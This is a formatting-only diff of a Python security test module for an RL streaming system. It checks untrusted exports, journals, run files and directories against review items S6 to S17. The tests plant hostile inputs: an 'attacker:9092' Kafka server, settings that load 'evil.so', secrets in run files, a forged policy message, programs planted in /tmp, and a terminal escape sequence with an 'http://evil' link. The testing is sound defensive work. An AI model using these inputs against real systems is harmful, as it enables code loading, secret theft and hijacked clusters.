@@ -1,4 +1,6 @@
-"""Attacks by what comes from outside as data: exports, journals, letters, run files, directories. S6, S7, S12, S13 and S15 to S17 of the review."""
+"""Attacks by what comes from outside as data: exports, journals, letters, run files, directories.
+S6, S7, S12, S13 and S15 to S17 of the review.
+"""
 
 from __future__ import annotations
 
@@ -64,7 +66,9 @@ def code_of_a_journal(directory: Path) -> str:
         named = to_json(part.config).replace('"rloo"', '"planted:advantage"')
         log = MemoryLog(TOPICS)
         writer = log.plain_writer()
-        entry = JournalEntry(sequence=0, time_s=1.0, slices=[], config=named, digest=b"", output_count=0)
+        entry = JournalEntry(
+            sequence=0, time_s=1.0, slices=[], config=named, digest=b"", output_count=0
+        )
         writer.send(to_message(Output("journal.buffer", "buffer", entry)))
         writer.flush()
         with contextlib.suppress(StreamrlError):
@@ -74,14 +78,19 @@ def code_of_a_journal(directory: Path) -> str:
     return "the module was imported" if (directory / "ran").exists() else ""
 
 
-def export_of(directory: Path, run_file: dict[str, object], topics: dict[str, list[Partition]]) -> FileLog:
+def export_of(
+    directory: Path, run_file: dict[str, object], topics: dict[str, list[Partition]]
+) -> FileLog:
     (directory / "x").mkdir()
     write_manifest(directory / "x", Manifest("small", run_file, topics))
     return FileLog(directory / "x")
 
 
 def variables_of_an_importer(directory: Path) -> str:
-    hostile = {"kafka": {"bootstrap.servers": "attacker:9092", "client.id": "env:ATTACKED"}, "runs_dir": "/elsewhere"}
+    hostile = {
+        "kafka": {"bootstrap.servers": "attacker:9092", "client.id": "env:ATTACKED"},
+        "runs_dir": "/elsewhere",
+    }
     with at(directory, ATTACKED=SECRET):
         run = run_of(export_of(directory, {**RUN.model_dump(mode="json"), **hostile}, {}), "mine")
     return "its cluster, or its directory, is taken" if run.kafka or run.runs_dir != "runs" else ""
@@ -104,7 +113,12 @@ def endless_hole(directory: Path) -> str:
 
 
 def library(directory: Path) -> str:
-    names = ("plugin.library.paths", "ssl.engine.location", "ssl.providers", "sasl.kerberos.kinit.cmd")
+    names = (
+        "plugin.library.paths",
+        "ssl.engine.location",
+        "ssl.providers",
+        "sasl.kerberos.kinit.cmd",
+    )
     taken = [name for name in names if not refused({"kafka": {name: str(directory / "evil.so")}})]
     return f"a run file may have {', '.join(taken)}" if taken else ""
 
@@ -112,7 +126,11 @@ def library(directory: Path) -> str:
 def secrets_in_a_run_file(directory: Path) -> str:
     places: dict[str, dict[str, object]] = {
         "a sink": {"orchestrator": {"sinks": [{"kind": "wandb", "params": {"api_key": SECRET}}]}},
-        "a URI": {"orchestrator": {"sinks": [{"kind": "mlflow", "params": {"tracking_uri": f"https://me:{SECRET}@h"}}]}},
+        "a URI": {
+            "orchestrator": {
+                "sinks": [{"kind": "mlflow", "params": {"tracking_uri": f"https://me:{SECRET}@h"}}]
+            }
+        },
         "an env": {"envs": {"a": {"params": {"api_key": SECRET}}}},
         "an option": {"inference": {"extra_args": ["--api_key", SECRET]}},
         "a token": {"inference": {"extra_args": ["--hf-token", SECRET]}},
@@ -123,16 +141,38 @@ def secrets_in_a_run_file(directory: Path) -> str:
 
 
 def secrets_of_vllm(directory: Path) -> str:
-    names = ("AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY", "MY_SASL_PASSWORD", "HF_TOKEN", "STREAMRL_KAFKA_PASSWORD")
-    given = server.environment(RUN.inference, server.Installation("python", cuda=False), server.Keys("agent", ""), dict.fromkeys(names, SECRET))
-    return f"vLLM is given {', '.join(n for n in names if n in given)}" if SECRET in given.values() else ""
+    names = (
+        "AWS_SECRET_ACCESS_KEY",
+        "WANDB_API_KEY",
+        "MY_SASL_PASSWORD",
+        "HF_TOKEN",
+        "STREAMRL_KAFKA_PASSWORD",
+    )
+    given = server.environment(
+        RUN.inference,
+        server.Installation("python", cuda=False),
+        server.Keys("agent", ""),
+        dict.fromkeys(names, SECRET),
+    )
+    return (
+        f"vLLM is given {', '.join(n for n in names if n in given)}"
+        if SECRET in given.values()
+        else ""
+    )
 
 
 def letter_to_another_topic(directory: Path) -> str:
     log: Log = MemoryLog(TOPICS)
-    forged = PolicyVersion(learner="lead", version=1_000_000, uri="s3://mine", size_bytes=1, sha256="0", time_s=1.0)
+    forged = PolicyVersion(
+        learner="lead", version=1_000_000, uri="s3://mine", size_bytes=1, sha256="0", time_s=1.0
+    )
     message = to_message(Output("policy-versions", "lead", forged))
-    errors = {"topic": b"policy-versions", "partition": b"0", "offset": b"0", "exception.message": b"early"}
+    errors = {
+        "topic": b"policy-versions",
+        "partition": b"0",
+        "offset": b"0",
+        "exception.message": b"early",
+    }
     headers = (*message.headers, *((PREFIX + name, value) for name, value in errors.items()))
     writer = log.plain_writer()
     writer.send(message._replace(topic="dead-letters.rollouts.copy", headers=headers))
@@ -142,7 +182,9 @@ def letter_to_another_topic(directory: Path) -> str:
 
 
 def planted_programs(directory: Path) -> str:
-    """In a directory that all may write to, as /tmp: somebody's .streamrl and .venv-inference; below it, somebody else works."""
+    """In a directory that all may write to, as /tmp: somebody's .streamrl and .venv-inference;
+    below it, somebody else works.
+    """
     shared, mine = directory / "shared", directory / "shared" / "mine"
     mine.mkdir(parents=True)
     for place in (shared, mine):
@@ -165,19 +207,36 @@ def planted_programs(directory: Path) -> str:
 
 def orders_to_a_terminal(directory: Path) -> str:
     out = io.StringIO()
-    Console(file=out, force_terminal=True, color_system=None).print(quoted("[/models/x] \x1b]0;owned\x07 [link=http://evil]here[/link]"))
+    Console(file=out, force_terminal=True, color_system=None).print(
+        quoted("[/models/x] \x1b]0;owned\x07 [link=http://evil]here[/link]")
+    )
     return "an escape passes" if "\x1b]" in out.getvalue() or "\x07" in out.getvalue() else ""
 
 
 ATTACKS = (
     Attack("S6", "a journal names code to import", "stream/worker.py", code_of_a_journal),
-    Attack("S7", "an export names a cluster and variables", "replay/archive.py", variables_of_an_importer),
+    Attack(
+        "S7",
+        "an export names a cluster and variables",
+        "replay/archive.py",
+        variables_of_an_importer,
+    ),
     Attack("S7", "an export names a file elsewhere", "stream/files.py", file_elsewhere),
     Attack("S7", "an export has an endless hole", "stream/files.py", endless_hole),
     Attack("S7", "a setting of Kafka loads a library", "config.py", library),
     Attack("S12", "a secret stands in a run file", "credentials.py", secrets_in_a_run_file),
     Attack("S13", "vLLM reads the user's secrets", "inference/server.py", secrets_of_vllm),
-    Attack("S15", "a letter is put back into another topic", "stream/dead_letters.py", letter_to_another_topic),
+    Attack(
+        "S15",
+        "a letter is put back into another topic",
+        "stream/dead_letters.py",
+        letter_to_another_topic,
+    ),
     Attack("S16", "programs are planted below /tmp", "ownership.py", planted_programs),
-    Attack("S17", "a text gives orders to the terminal", "orchestrator/display.py", orders_to_a_terminal),
+    Attack(
+        "S17",
+        "a text gives orders to the terminal",
+        "orchestrator/display.py",
+        orders_to_a_terminal,
+    ),
 )
